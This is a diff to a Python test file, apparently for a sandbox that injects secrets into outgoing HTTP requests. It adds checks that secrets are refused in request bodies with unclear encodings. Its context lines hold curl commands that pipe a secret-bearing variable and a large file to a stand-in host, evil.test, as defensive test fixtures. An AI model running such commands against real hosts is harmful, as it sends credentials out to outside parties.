@@ -162,9 +162,21 @@ def test_each_place_of_a_secret(inspected, api, secret, backend):
         told = box.exec(["sh", "-c", post], env=env).output
         assert api.seen[-1]["body"] == sent
         assert "s3cr" not in told
+    # How the host reads a body must be clear, or the value could come back as another text.
+    for kind, data, why in (
+        ("application/x-www-form-urlencoded", "t=%%%s", "an escape goes on in the placeholder"),
+        ("application/json; charset=utf-16", '"%s"', "its charset is not UTF-8"),
+        ("x/y", "%s", "its Content-Type is not JSON, a form or plain text"),
+    ):
+        before = len(api.seen)
+        env = {"KIND": f"Content-Type: {kind}", "DATA": data % holder}
+        told = box.exec(["sh", "-c", post], env=env).output
+        assert told == f"Secret BODY is not put into the body of this request: {why}.\n"
+        assert len(api.seen) == before
+        assert f"secret in a body: {why}" in [one.rule for one in box.net_log()]
     # Chunked, and larger than what is searched.
     large = "head -c 3000000 /dev/zero | tr '\\0' x > /tmp/large; "
-    chunked = "-H 'Transfer-Encoding: chunked' -H 'Content-Type: x/y' --data-binary"
+    chunked = "-H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' --data-binary"
     box.exec(f'echo "$BODY" | curl -sS {chunked} @- https://evil.test:{api.port}/x')
     assert api.seen[-1]["body"] == VALUE + "\n"
     box.exec(f"{large} curl -sS {chunked} @/tmp/large https://evil.test:{api.port}/x")
